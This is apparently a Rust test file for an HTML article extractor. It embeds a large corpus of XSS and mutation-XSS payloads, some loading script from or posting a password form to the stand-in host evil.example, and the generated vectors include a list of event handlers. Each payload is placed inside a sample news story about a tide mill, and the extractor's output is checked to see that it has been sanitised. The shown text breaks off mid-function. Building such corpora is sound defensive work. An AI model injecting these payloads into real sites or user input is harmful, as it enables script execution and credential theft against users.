#![cfg(not(target_arch = "wasm32"))]
//! The attack corpus: XSS and mutation-XSS vectors, each placed inside a realistic article
//! page (between two paragraphs, and again in the middle of a sentence), extracted, and the
//! result held to the invariants of `fuzz/invariants.rs`: re-parsed with html5ever it holds
//! only allow-listed elements, attributes and URL schemes, it is stable under re-parsing,
//! ammonia finds nothing to remove, and the Markdown holds no raw HTML or unsafe link.
//!
//! A vector's payload is always `pwn()`: it must not reach the text or the Markdown, except
//! for the vectors marked `SHOWS`, where a browser too would show it as inert text (escaped
//! markup inside `<pre>`, an alt text). `SWALLOWS` marks vectors that leave something open
//! (an unclosed `<script>`, `<noscript>`...) so the rest of the page is not expected back.

#[path = "../fuzz/invariants.rs"]
mod invariants;

use invariants::{ammonia_problems, html_problems, markdown_problems, url_problem};
use pith::{extract, Article, Options};
use proptest::prelude::*;

const PAGE_URL: &str = "https://news.example.org/2024/05/tide-mill-restoration.html";

/// Nothing special: the vector is expected to come out defused and the page around it kept.
const PLAIN: u8 = 0;
/// The vector leaves an element open that hides what follows it.
const SWALLOWS: u8 = 1;
/// The payload legitimately shows as inert text (in a browser as well).
const SHOWS: u8 = 2;

struct Vector {
    name: String,
    html: String,
    flags: u8,
}

/// The hand-written corpus: (name, markup, flags).
const CORPUS: &[(&str, &str, u8)] = &[
    // --- script elements ---
    ("script-lower", "<script>pwn()</script>", PLAIN),
    ("script-upper", "<SCRIPT>pwn()</SCRIPT>", PLAIN),
    ("script-mixed-src", "<ScRiPt SRC=\"https://evil.example/x.js\"></sCrIpT>", PLAIN),
    ("script-type-module", "<script type=module>import('https://evil.example/m.js').then(pwn)</script>", PLAIN),
    // `<scr<script>` is one odd tag name; "ipt>pwn()" is plain text to a browser too.
    ("script-split-nested", "<scr<script>ipt>pwn()</scr</script>ipt>", SHOWS),
    ("script-double-escaped", "<script><!--<script></script>pwn()</script>", PLAIN),
    ("script-comment-breakout", "<script>/*</script><img src=x onerror=pwn()>*/</script>", PLAIN),
    ("script-in-attribute", "<p title=\"</p><script>pwn()</script>\">quoted title paragraph</p>", PLAIN),
    ("script-unclosed", "<script>pwn()", SWALLOWS),
    ("script-in-svg", "<svg><script>pwn()</script></svg>", PLAIN),
    ("script-in-svg-xlink", "<svg><script xlink:href=\"data:text/javascript,pwn()\"></script></svg>", PLAIN),
    ("script-in-math", "<math><script>pwn()</script><mi>x</mi></math>", PLAIN),
    // --- event handlers ---
    ("img-onerror", "<img src=x onerror=pwn()>", PLAIN),
    ("img-onerror-upper", "<IMG SRC=x OnErRoR=pwn()>", PLAIN),
    ("img-slashes", "<img/src/onerror=pwn()>", PLAIN),
    ("img-slash-between", "<img src=\"https://img.example/a.png\"/onerror=\"pwn()\" alt=\"slash\">", PLAIN),
    ("img-whitespace", "<img src=x onerror\t=\tpwn()\n>", PLAIN),
    ("img-newline-attr", "<img src=x\nonerror=pwn()>", PLAIN),
    ("img-onload-good-src", "<img src=\"https://img.example/photo.jpg\" onload=\"pwn()\" alt=\"harbour\">", PLAIN),
    ("image-alias", "<image src=x onerror=pwn()>", PLAIN),
    ("body-onload", "<body onload=pwn()>", PLAIN),
    ("html-onload", "<html onmouseover=pwn()>", PLAIN),
    ("svg-onload", "<svg onload=pwn()>", SWALLOWS),
    ("svg-slash-onload", "<svg/onload=pwn()>", SWALLOWS),
    ("div-onclick", "<div onclick=\"pwn()\">A clickable remark about the mill.</div>", PLAIN),
    ("input-autofocus", "<input onfocus=pwn() autofocus>", PLAIN),
    ("select-autofocus", "<select autofocus onfocus=pwn()><option>one</option></select>", PLAIN),
    ("keygen-autofocus", "<keygen autofocus onfocus=pwn()>", PLAIN),
    ("details-ontoggle", "<details open ontoggle=pwn()><summary>More</summary>Hidden detail text.</details>", PLAIN),
    ("animation-start", "<p style=\"animation-name:spin\" onanimationstart=pwn()>Spinning words.</p>", PLAIN),
    ("pointer-family", "<span onpointerover=pwn() onpointerdown=pwn() onpointerenter=pwn()>pointer text</span>", PLAIN),
    ("mixed-case-handlers", "<p ONCLICK=pwn() oNfOcUs=pwn() tabindex=1>Mixed case handlers.</p>", PLAIN),
    ("handler-no-space", "<a href=\"https://ok.example/\"onmouseover=\"pwn()\">no space link</a>", PLAIN),
    ("handler-nul-name", "<img src=x on\0error=pwn()>", PLAIN),
    ("marquee-onstart", "<marquee onstart=pwn()>Marquee words</marquee>", PLAIN),
    ("custom-element", "<x-widget onclick=pwn()>custom element text</x-widget>", PLAIN),
    ("bdo-handler", "<bdo dir=\"rtl\" onmouseover=pwn()>reversed words</bdo>", PLAIN),
    ("video-source-onerror", "<video><source onerror=pwn()></video>", PLAIN),
    ("audio-onerror", "<audio src=x onerror=pwn()></audio>", PLAIN),
    ("button-onclick", "<button onclick=pwn()>Press</button>", PLAIN),
    ("frameset-onload", "<frameset onload=pwn()>", PLAIN),
    ("attr-name-lt", "<a href=\"https://ok.example/\" <img src=x onerror=pwn()>>odd attribute</a>", PLAIN),
    // --- dangerous URLs ---
    ("href-javascript", "<a href=\"javascript:pwn()\">js link</a>", PLAIN),
    ("href-mixed-case", "<a href=\"JaVaScRiPt:pwn()\">mixed link</a>", PLAIN),
    ("href-dec-entity", "<a href=\"&#106;avascript:pwn()\">entity link</a>", PLAIN),
    (
        "href-hex-entities",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;pwn()\">hex link</a>",
        PLAIN,
    ),
    ("href-padded-entities", "<a href=\"&#0000106&#0000097vascript:pwn()\">padded link</a>", PLAIN),
    ("href-tab-entity", "<a href=\"java&#x09;script:pwn()\">tab link</a>", PLAIN),
    ("href-named-tab", "<a href=\"java&Tab;script:pwn()\">named tab link</a>", PLAIN),
    ("href-named-newline", "<a href=\"java&NewLine;script:pwn()\">newline link</a>", PLAIN),
    ("href-cr", "<a href=\"jav&#x0D;ascript:pwn()\">cr link</a>", PLAIN),
    ("href-raw-tab-newline", "<a href=\"ja\tva\nscr\ript:pwn()\">raw whitespace link</a>", PLAIN),
    ("href-leading-controls", "<a href=\" &#x01; &#x1F;javascript:pwn()\">control link</a>", PLAIN),
    ("href-vertical-tab", "<a href=\"&#x0B;javascript:pwn()\">vt link</a>", PLAIN),
    ("href-nul", "<a href=\"jav\0ascript:pwn()\">nul link</a>", PLAIN),
    ("href-named-colon", "<a href=\"javascript&colon;pwn()\">colon link</a>", PLAIN),
    ("href-dec-colon", "<a href=\"javascript&#58;pwn()\">colon58 link</a>", PLAIN),
    ("href-entity-mid", "<a href=\"javas&#99;ript:pwn()\">mid entity link</a>", PLAIN),
    ("href-spaces", "<a href=\"   javascript:pwn()   \">spaced link</a>", PLAIN),
    ("href-slashes", "<a href=\"javascript://%0Apwn()\">comment link</a>", PLAIN),
    ("href-unquoted", "<a href=javascript&colon;pwn&lpar;1&rpar;>unquoted link</a>", PLAIN),
    ("href-vbscript", "<a href=\"vbscript:msgbox(pwn())\">vb link</a>", PLAIN),
    ("href-vbscript-case", "<a href=\"VBScript:pwn()\">VB link</a>", PLAIN),
    ("href-data-html-b64", "<a href=\"data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==\">data link</a>", PLAIN),
    ("href-data-html", "<a href=\"data:text/html,<script>pwn()</script>\">data html link</a>", PLAIN),
    ("href-data-image", "<a href=\"data:image/png;base64,iVBORw0KGgo=\">data image link</a>", PLAIN),
    ("img-src-javascript", "<img src=\"javascript:pwn()\" alt=\"js image\">", PLAIN),
    ("img-src-svg-data", "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduKCk+\" alt=\"svg\">", PLAIN),
    ("img-src-data-html", "<img src=\"data:text/html,pwn()\" alt=\"html\">", PLAIN),
    ("img-src-data-png", "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==\" alt=\"pixel\">", PLAIN),
    ("img-src-data-png-onerror", "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" onerror=pwn()>", PLAIN),
    ("img-src-space-svg", "<img src=\" data:image/svg+xml,<svg onload=pwn()>\" alt=\"spaced\">", PLAIN),
    (
        "img-srcset-js",
        "<img src=\"https://img.example/a.png\" srcset=\"javascript:pwn() 1x, https://img.example/b.png 2x\">",
        PLAIN,
    ),
    ("img-srcset-data", "<img src=\"https://img.example/a.png\" srcset=\"data:image/svg+xml,<svg onload=pwn()> 1x\">", PLAIN),
    // A tab inside the scheme: a srcset parser reads the URL "java" and a tail of code.
    (
        "img-srcset-tab-js",
        "<img src=\"https://img.example/a.png\" srcset=\"java&#9;script:pwn(1,2)//(x) 1x, https://img.example/b.png 2x\">",
        PLAIN,
    ),
    ("img-longdesc", "<img src=\"https://img.example/a.png\" longdesc=\"javascript:pwn()\" alt=\"desc\">", PLAIN),
    ("img-usemap-area", "<img src=\"https://img.example/a.png\" usemap=\"#m\"><map name=\"m\"><area href=\"javascript:pwn()\"></map>", PLAIN),
    ("video-poster", "<video poster=\"javascript:pwn()\" src=\"https://v.example/a.mp4\"></video>", PLAIN),
    ("table-background", "<table background=\"javascript:pwn()\"><tr><td>Cell text</td></tr></table>", PLAIN),
    ("blockquote-cite", "<blockquote cite=\"javascript:pwn()\"><p>A quoted sentence.</p></blockquote>", PLAIN),
    ("q-cite", "<q cite=\"vbscript:pwn()\">A short quote</q>", PLAIN),
    ("del-ins-cite", "<del cite=\"javascript:pwn()\">old</del> <ins cite=\"data:text/html,x\">new</ins>", PLAIN),
    ("form-action", "<form action=\"javascript:pwn()\"><input type=submit value=Go></form>", PLAIN),
    ("button-formaction", "<form><button formaction=\"javascript:pwn()\">Send</button></form>", PLAIN),
    ("input-formaction", "<input type=image src=x formaction=\"javascript:pwn()\">", PLAIN),
    ("isindex", "<isindex action=\"javascript:pwn()\" type=image>", PLAIN),
    ("svg-xlink-href", "<svg><a xlink:href=\"javascript:pwn()\"><text x=\"20\" y=\"20\">svg link</text></a></svg>", PLAIN),
    ("svg2-href", "<svg><a href=\"javascript:pwn()\"><text>svg two link</text></a></svg>", PLAIN),
    ("math-xlink-href", "<math><mi xlink:href=\"javascript:pwn()\">formula</mi></math>", PLAIN),
    ("math-href", "<math href=\"javascript:pwn()\"><mn>2</mn></math>", PLAIN),
    ("math-maction", "<math><maction actiontype=\"statusline#x\" xlink:href=\"javascript:pwn()\">click</maction></math>", PLAIN),
    // --- frames, plugins and document-level elements ---
    ("iframe-js", "<iframe src=\"javascript:pwn()\"></iframe>", PLAIN),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;pwn()&lt;/script&gt;\"></iframe>", PLAIN),
    ("object-data", "<object data=\"javascript:pwn()\"></object>", PLAIN),
    ("object-html-fallback", "<object data=\"data:text/html,<script>pwn()</script>\">fallback words</object>", PLAIN),
    ("object-scriptlet", "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x.sct\"></object>", PLAIN),
    ("embed-js", "<embed src=\"javascript:pwn()\">", PLAIN),
    ("embed-svg", "<embed src=\"data:image/svg+xml,<svg onload=pwn()>\">", PLAIN),
    ("applet", "<applet code=\"Pwn.class\">applet fallback</applet>", PLAIN),
    ("base-js-then-link", "<base href=\"javascript:pwn()//\"><a href=\"relative.html\">relative link</a>", PLAIN),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:pwn()\">", PLAIN),
    ("link-import", "<link rel=\"import\" href=\"https://evil.example/x.html\">", PLAIN),
    ("link-stylesheet-js", "<link rel=stylesheet href=\"javascript:pwn()\">", PLAIN),
    ("form-password", "<form action=\"https://evil.example/steal\"><input type=password name=pw><button>Sign in</button></form>", PLAIN),
    // --- style ---
    ("style-import", "<style>@import 'javascript:pwn()';</style>", PLAIN),
    ("style-url", "<style>body{background:url(\"javascript:pwn()\")}</style>", PLAIN),
    ("style-attr-expression", "<p style=\"width:expression(pwn())\">Expression words.</p>", PLAIN),
    ("style-attr-url", "<div style=\"background-image:url(javascript:pwn())\">Background words.</div>", PLAIN),
    ("style-attr-behavior", "<p style=\"behavior:url(x.htc)\">Behaviour words.</p>", PLAIN),
    ("style-overlay", "<a href=\"https://ok.example/\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</a>", PLAIN),
    ("style-breakout", "<style><img title=\"</style><img src=x onerror=pwn()>\"></style>", PLAIN),
    // --- template, noscript ---
    ("template-img", "<template><img src=x onerror=pwn()></template>", PLAIN),
    ("template-script", "<template><script>pwn()</script></template>", PLAIN),
    ("noscript-title", "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\"></noscript>", SWALLOWS),
    ("noscript-title-closed", "<noscript><p title=\"</noscript><img src=x onerror=pwn()>\"></p></noscript>", PLAIN),
    ("noscript-style", "<noscript><style></noscript><img src=x onerror=pwn()></style></noscript>", PLAIN),
    // --- namespace confusion ---
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=pwn()>", SWALLOWS),
    (
        "math-mglyph-style-closed",
        "<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></mtext></math>",
        PLAIN,
    ),
    (
        "math-h1-svg-style",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=pwn()>\"></style></h1>",
        SWALLOWS,
    ),
    ("form-math-mglyph", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>", SWALLOWS),
    ("svg-foreignobject", "<svg><foreignObject><p onclick=pwn()>foreign words</p><img src=x onerror=pwn()></foreignObject></svg>", PLAIN),
    ("svg-style-img", "<svg><style><img src=x onerror=pwn()></style></svg>", PLAIN),
    ("svg-p-style", "<svg></p><style><a id=\"</style><img src=1 onerror=pwn()>\">", PLAIN),
    ("svg-desc-img", "<svg><desc><img src=x onerror=pwn()></desc></svg>", PLAIN),
    ("svg-animate", "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>", PLAIN),
    ("svg-set-href", "<svg><a><set attributeName=\"href\" to=\"javascript:pwn()\"/><text>set link</text></a></svg>", PLAIN),
    ("svg-use-data", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='pwn()'/></svg>#x\"></use></svg>", PLAIN),
    ("math-style-img", "<math><style><img src=x onerror=pwn()></style></math>", PLAIN),
    ("svg-p-breakout", "<svg><p><style><img src=x onerror=pwn()></style></p></svg>", PLAIN),
    ("svg-cdata", "<svg><![CDATA[><img src=x onerror=pwn()>]]></svg>", PLAIN),
    ("html-cdata", "<![CDATA[><img src=x onerror=pwn()>]]>", PLAIN),
    // --- raw-text and RCDATA breakouts ---
    ("textarea-breakout", "<textarea></textarea><img src=x onerror=pwn()>", PLAIN),
    ("textarea-content", "<textarea><img src=x onerror=pwn()></textarea>", PLAIN),
    ("title-in-body", "<title><img src=x onerror=pwn()></title>", PLAIN),
    ("xmp-breakout", "<xmp></xmp><img src=x onerror=pwn()>", PLAIN),
    ("xmp-script", "<xmp><script>pwn()</script></xmp>", PLAIN),
    ("noembed-title", "<noembed><img title=\"</noembed><img src=x onerror=pwn()>\"></noembed>", PLAIN),
    ("iframe-title", "<iframe><img title=\"</iframe><img src=x onerror=pwn()>\"></iframe>", PLAIN),
    ("noframes-title", "<noframes><p title=\"</noframes><img src=x onerror=pwn()>\"></noframes>", PLAIN),
    ("plaintext", "<plaintext><script>pwn()</script>", SWALLOWS),
    ("listing-escaped", "<listing>&lt;img src=x onerror=pwn()&gt;</listing>", SHOWS),
    ("pre-escaped", "<pre>&lt;/pre&gt;&lt;script&gt;pwn()&lt;/script&gt;</pre>", SHOWS),
    ("pre-leading-newline", "<pre>\n\nfirst line after two newlines\nsecond line</pre>", PLAIN),
    ("div-h2-upper-close", "<div><h2>a</DIV>", PLAIN),
    ("prose-escaped", "<p>&lt;script&gt;pwn()&lt;/script&gt; written out in prose.</p>", SHOWS),
    ("code-escaped", "<p>Run <code>&lt;script&gt;pwn()&lt;/script&gt;</code> to test.</p>", SHOWS),
    // --- comments, processing instructions ---
    ("comment-abrupt", "<!--><img src=x onerror=pwn()>-->", PLAIN),
    ("comment-abrupt-dash", "<!---><img src=x onerror=pwn()>-->", PLAIN),
    ("comment-bang", "<!-- --!><img src=x onerror=pwn()>-->", PLAIN),
    ("comment-in-attribute", "<!--<img src=\"--><img src=x onerror=pwn()//\">", PLAIN),
    ("processing-instruction", "<? pwn() ?><img src=x onerror=pwn()>", PLAIN),
    ("conditional-comment", "<!--[if IE]><script>pwn()</script><![endif]-->", PLAIN),
    // --- DOM clobbering ---
    ("clobber-location", "<img id=\"location\" name=\"location\" src=\"https://img.example/a.png\" alt=\"clobber\">", PLAIN),
    ("clobber-cookie-form", "<form id=\"cookie\" name=\"cookie\"><input id=\"domain\" name=\"domain\"></form>", PLAIN),
    ("clobber-proto", "<a id=\"__proto__\" name=\"__proto__\" href=\"https://ok.example/\">proto link</a>", PLAIN),
    ("clobber-gebi", "<p id=\"getElementById\">Clobbering paragraph.</p>", PLAIN),
    ("clobber-self-link", "<a id=\"defaultView\" href=\"#defaultView\">self link</a>", PLAIN),
    ("clobber-nested", "<div id=\"document\"><div id=\"document\" name=\"body\">double clobber</div></div>", PLAIN),
    ("clobber-empty-id", "<p id=\"\">Empty id paragraph.</p>", PLAIN),
    ("id-with-markup", "<p id=\"&#x3C;script&#x3E;\">Angle id paragraph.</p>", PLAIN),
    ("id-quote-breakout", "<p id=\"x&quot; onclick=&quot;pwn()\">Entity in attribute.</p>", PLAIN),
    // --- links with extra powers ---
    (
        "link-target-ping-download",
        "<a href=\"https://ok.example/\" target=\"_blank\" ping=\"https://track.example/\" download=\"x.exe\">download</a>",
        PLAIN,
    ),
    ("link-rel-opener", "<a href=\"https://ok.example/\" rel=\"opener\" referrerpolicy=\"unsafe-url\" target=\"_top\">opener</a>", PLAIN),
    ("link-protocol-relative", "<a href=\"//evil.example/x\">protocol relative</a>", PLAIN),
    ("link-mailto-script", "<a href=\"mailto:someone@example.com?body=<script>pwn()</script>\">mail us</a>", PLAIN),
    ("link-international-host", "<a href=\"https://Bücher.example/ü\">books</a><img src=\"//例え.テスト/a.png\" alt=\"example\">", PLAIN),
    ("link-tel", "<a href=\"tel:+1-555-0100\">call us</a>", PLAIN),
    // Found by fuzz/: an absolute URL that does not parse, which ammonia drops.
    ("url-empty-host", "<a href=\"https://\">empty host</a><img src=\"http://\" alt=\"no host\">", PLAIN),
    (
        "link-query-entities",
        "<a href=\"https://ok.example/?q=&quot;&gt;&lt;script&gt;pwn()&lt;/script&gt;\">entities in href</a>",
        PLAIN,
    ),
    ("img-alt-markup", "<img src=\"https://img.example/a.png\" alt=\"&lt;script&gt;pwn()&lt;/script&gt;\">", SHOWS),
    ("img-alt-img", "<img src=\"https://img.example/b.png\" alt=\"<img src=x onerror=pwn()>\">", SHOWS),
    ("href-markup-relative", "<a href=\"</style><b>x</b>\">markup href</a>", PLAIN),
    ("img-src-markup-relative", "<img src=\"</style><img\tsrc=x\tonerror=pwn()>x\" alt=\"markup src\">", PLAIN),
    ("pre-inside-bold", "<b><listing>&lt;img src=x onerror=pwn()&gt;</listing></b>", SHOWS),
    ("pre-inside-link", "<a href=\"https://ok.example/\"><pre>&lt;img src=x onerror=pwn()&gt;\n```\n&lt;script&gt;pwn()&lt;/script&gt;</pre></a>", SHOWS),
    ("pre-inside-heading", "<h3>Title <pre>&lt;img src=x onerror=pwn()&gt;</pre></h3>", SHOWS),
    ("pre-inside-cell", "<table><tr><td><pre>&lt;/td&gt;&lt;img src=x onerror=pwn()&gt;|x</pre></td></tr></table>", SHOWS),
    ("list-item-in-form-item", "<ul><li>outer item<form><li>inner item</li></form></li></ul>", PLAIN),
    ("link-in-link-via-table", "<a href=\"https://a.example/\">outer<table><a href=\"https://b.example/\">inner</a></table></a>", PLAIN),
    // The adoption agency leaves the h6 inside the h2: a parser reading h2 > h6 pops the h2.
    ("heading-in-heading", "<h2>Outer <a href=\"https://ok.example/\">link<h6>inner</a> tail</h6></h2>", PLAIN),
    ("unclosed-attribute-quote", "<img src=\"x onerror=pwn() alt=\"", SWALLOWS),
    // --- unicode tricks in URLs ---
    ("url-rlo", "<a href=\"&#x202E;javascript:pwn()\">rlo link</a>", PLAIN),
    ("url-zero-width", "<a href=\"java&#x200B;script:pwn()\">zwsp link</a>", PLAIN),
    ("url-bom", "<a href=\"&#xFEFF;javascript:pwn()\">bom link</a>", PLAIN),
    ("url-fullwidth-colon", "<a href=\"javascript&#xFF1A;pwn()\">fullwidth link</a>", PLAIN),
    ("url-bidi-path", "<a href=\"https://ok.example/&#x200E;&#x202E;fdp.exe\">bidi path</a>", PLAIN),
    ("img-bidi-src", "<img src=\"https://img.example/&#x202E;gpj.exe\" alt=\"bidi image\">", PLAIN),
];

/// Vectors built at run time: every event-handler family on one element, and over-long values.
fn generated() -> Vec<Vector> {
    const HANDLERS: &[&str] = &[
        "onabort",
        "onafterprint",
        "onanimationend",
        "onanimationiteration",
        "onanimationstart",
        "onauxclick",
        "onbeforeinput",
        "onbeforetoggle",
        "onbeforeunload",
        "onbegin",
        "onblur",
        "oncanplay",
        "onchange",
        "onclick",
        "oncontextmenu",
        "oncopy",
        "oncut",
        "ondblclick",
        "ondrag",
        "ondrop",
        "onend",
        "onerror",
        "onfocus",
        "onfocusin",
        "onhashchange",
        "oninput",
        "oninvalid",
        "onkeydown",
        "onkeypress",
        "onkeyup",
        "onload",
        "onmessage",
        "onmousedown",
        "onmouseenter",
        "onmouseleave",
        "onmousemove",
        "onmouseout",
        "onmouseover",
        "onmouseup",
        "onpageshow",
        "onpaste",
        "onpointercancel",
        "onpointerdown",
        "onpointerenter",
        "onpointerleave",
        "onpointermove",
        "onpointerout",
        "onpointerover",
        "onpointerrawupdate",
        "onpointerup",
        "onpopstate",
        "onrepeat",
        "onresize",
        "onscroll",
        "onscrollend",
        "onsearch",
        "onselect",
        "onselectstart",
        "onstorage",
        "onsubmit",
        "ontoggle",
        "ontouchstart",
        "ontransitionend",
        "ontransitionstart",
        "onunload",
        "onwheel",
    ];
    let all: String = HANDLERS.iter().map(|h| format!(" {h}=\"pwn()\"")).collect();
    let odd: String = HANDLERS.iter().take(20).map(|h| format!(" {}=pwn()", h.to_uppercase())).collect();
    vec![
        Vector { name: "all-handlers".into(), html: format!("<p{all}>Every handler.</p>"), flags: PLAIN },
        Vector {
            name: "all-handlers-upper".into(),
            html: format!("<a href=\"https://ok.example/\"{odd}>upper</a>"),
            flags: PLAIN,
        },
        Vector {
            name: "long-href".into(),
            html: format!("<a href=\"https://ok.example/{}\">long href</a>", "A".repeat(200_000)),
            flags: PLAIN,
        },
        Vector {
            name: "long-title-id".into(),
            html: format!("<p title=\"{}\" id=\"{}\">Long attributes.</p>", "t".repeat(100_000), "i".repeat(100_000)),
            flags: PLAIN,
        },
        Vector {
            name: "long-tab-padded-js".into(),
            html: format!("<a href=\"java{}script:pwn()\">tabs link</a>", "\t".repeat(10_000)),
            flags: PLAIN,
        },
        Vector {
            name: "big-data-png".into(),
            html: format!("<img src=\"data:image/png;base64,{}\" alt=\"big\">", "A".repeat(300_000)),
            flags: PLAIN,
        },
        Vector {
            name: "many-entities-js".into(),
            html: format!(
                "<a href=\"{}\">all entities</a>",
                "javascript:pwn()".chars().map(|c| format!("&#x{:x};", c as u32)).collect::<String>()
            ),
            flags: PLAIN,
        },
    ]
}

fn corpus() -> Vec<Vector> {
    let mut v: Vec<Vector> =
        CORPUS.iter().map(|&(n, h, f)| Vector { name: n.to_string(), html: h.to_string(), flags: f }).collect();
    v.extend(generated());
    v
}

// --- the page each vector is placed in ---

const HEAD: &str = r#"<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>The tide mill at Carrow Point turns again | Estuary Gazette</title>
<meta property="og:site_name" content="Estuary Gazette">
<meta name="author" content="Miriam Oduya">
</head><body>
<header class="site-header"><nav><a href="/">Home</a> <a href="/news">News</a> <a href="/sport">Sport</a>
<a href="/weather">Weather</a> <a href="/subscribe">Subscribe</a></nav></header>
<main><article class="story">
<h1>The tide mill at Carrow Point turns again</h1>
<p class="byline">By Miriam Oduya, 14 May 2024</p>
"#;

const BEFORE: &[&str] = &[
    "For the first time since the winter of 1956, the great oak wheel of the tide mill at Carrow Point \
     turned on Saturday morning, pushed round by the ebbing water of the estuary. A crowd of a few hundred \
     people, many of them in waterproofs against a thin drizzle, watched from the sea wall as the sluice \
     keeper lifted the last board and the millpond began to empty through the race. Nobody cheered at \
     first; the wheel hesitated, groaned, and then settled into a slow rhythm that the older residents \
     said they remembered from childhood.",
    "The restoration took eleven years and cost a little over two million pounds, most of it raised by \
     the Carrow Point Mill Trust through grants, a share offer to local families and a long series of \
     jumble sales that became something of a village institution. The trust's chair, a retired marine \
     engineer named Peter Halloran, said the hardest part had not been the money but the timber. Oak of \
     the right size and grain had to be found, seasoned and shaped by hand, and the wheel alone needed \
     forty-eight paddles, each one cut to a template taken from a photograph of 1911.",
    "Tide mills were once common on this coast. They work by trapping the rising tide behind a gate and \
     releasing it through a waterwheel as the tide falls, which gives a miller four to six hours of power \
     twice a day, whatever the weather. The arrangement is older than the windmill in these parts; \
     records show a mill on this site in the fourteenth century, owned by the priory upriver, and the \
     present building dates largely from a rebuilding after a storm in 1791 that also took away half of \
     the old quay.",
    "By the middle of the last century the mill had become uneconomic. Flour came by rail from the big \
     roller mills in the cities, and the last miller, Arthur Penrose, ground animal feed for local farms \
     until the sluice gate failed in a storm and he decided, at seventy-three, that he would not be the \
     one to mend it. The building was used as a boat store, then a pottery, then nothing at all, and by \
     the late 1990s the roof had fallen in and ivy had grown through the floor of the stone floor above \
     the wheel pit.",
    "Volunteers did much of the work. On a typical Saturday during the long middle years of the project \
     there would be twenty people on site, clearing silt from the pond, repointing the walls with lime \
     mortar, or learning to cut mortise joints under the eye of a millwright brought over from the \
     Netherlands, where the craft never quite died out. Several of the younger volunteers have since \
     found work in heritage carpentry, and the trust now runs a short course in traditional joinery \
     twice a year in the restored granary next door.",
    "There were setbacks. In 2017 a contractor's pump failed overnight and the wheel pit flooded to the \
     brim with grey estuary silt, undoing a summer of excavation, and two years later the discovery of \
     a colony of bats in the roof space stopped all work on the upper floor for an entire breeding \
     season. The trust turned the delay into an opportunity, installing bat boxes under the eaves and \
     inviting the local school to count the animals at dusk, and the survey results now hang in a frame \
     beside the entrance, next to a list of every volunteer who gave a day or more to the project.",
    "Money ran short more than once. When the second big grant fell through, the trust sold the old \
     miller's cottage to a couple from the city on the condition that the path to the quay stay open, \
     and it asked every household in the parish for the price of one paddle. More than four hundred \
     families paid, and their names are carved, very small, along the rim of the wheel.",
];

const BEFORE_LAST_A: &str = "The last obstacle was the sluice gate itself, which had to satisfy the \
     environment agency that it could not flood the marsh behind the pond.";
const BEFORE_LAST_B: &str = "The engineers settled on a design that copies the old one in oak but \
     hides a steel frame and a float switch inside it, so the gate closes itself whenever the level \
     rises past a painted line on the wall.";

const AFTER: &[&str] = &[
    "Visitors who come in August will be able to buy flour ground on the premises, though the trust is \
     careful to say that the first batches are for tasting rather than baking. The millstones, a pair of \
     French burrs found under a hedge on a farm twenty miles away, need months of use before they grind \
     evenly, and the miller, a former schoolteacher named Ruth Akande, says she is still learning to \
     read the sound they make.",
    "The trust hopes the mill will pay its own way within five years through the shop, the courses and \
     school visits. It has also agreed with the university's engineering department to use the wheel as \
     a small test bed for low-head tidal power, measuring how much electricity a wheel of this kind \
     could make if it drove a generator instead of a pair of stones.",
    "On Saturday, though, nobody was talking about kilowatts. As the pond emptied and the wheel slowed, \
     Arthur Penrose's granddaughter, who had travelled from Aberdeen for the day, was invited to lower \
     the first board back into the sluice. She said afterwards that her grandfather would have been \
     pleased, and then, after a moment, that he would also have found something to criticise.",
];

const TAIL: &str = r#"
</article>
<aside class="related"><h2>More from the Gazette</h2><ul><li><a href="/a">Ferry timetable changes</a></li>
<li><a href="/b">Harbour dredging to start in June</a></li><li><a href="/c">Letters to the editor</a></li></ul></aside>
</main>
<footer><p>&copy; 2024 Estuary Gazette. <a href="/privacy">Privacy</a> <a href="/terms">Terms</a></p></footer>
</body></html>"#;

/// Words from the paragraph before the vector, and from the one after.
const MARK_BEFORE: &str = "The last obstacle was the sluice gate itself";
const MARK_AFTER_INLINE: &str = "The engineers settled on a design";
const MARK_AFTER_BLOCK: &str = "Visitors who come in August";

#[derive(Clone, Copy, Debug)]
enum Placement {
    /// Between two paragraphs.
    Block,
    /// In the middle of a paragraph's sentence.
    Inline,
    /// Between two paragraphs, extracted without a page URL: relative URLs stay as written.
    NoUrl,
}

fn page(vector: &str, placement: Placement) -> String {
    let mut s = String::from(HEAD);
    for p in BEFORE {
        s.push_str("<p>");
        s.push_str(p);
        s.push_str("</p>\n");
    }
    match placement {
        Placement::Block | Placement::NoUrl => {
            s.push_str(&format!("<p>{BEFORE_LAST_A} {BEFORE_LAST_B}</p>\n{vector}\n"));
        }
        Placement::Inline => {
            s.push_str(&format!("<p>{BEFORE_LAST_A} {vector} {BEFORE_LAST_B}</p>\n"));
        }
    }
    for p in AFTER {
        s.push_str("<p>");
        s.push_str(p);
        s.push_str("</p>\n");
    }
    s.push_str(TAIL);
    s
}

fn run(html: &str) -> Result<Article, pith::Error> {
    extract(html, &Options::default().with_url(PAGE_URL))
}

fn collapse(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Everything wrong with one extraction; `flags` as in the corpus (`None` for random input,
/// where the payload may end up as text and nothing is known to survive).
fn article_problems(a: &Article, flags: Option<u8>) -> Vec<String> {
    let html = a.content_html.as_deref().unwrap_or("");
    let md = a.markdown.as_deref().unwrap_or("");
    let text = a.text.as_deref().unwrap_or("");
    let mut problems = html_problems(html);
    problems.extend(ammonia_problems(html));
    let (md_problems, md_visible) = markdown_problems(md);
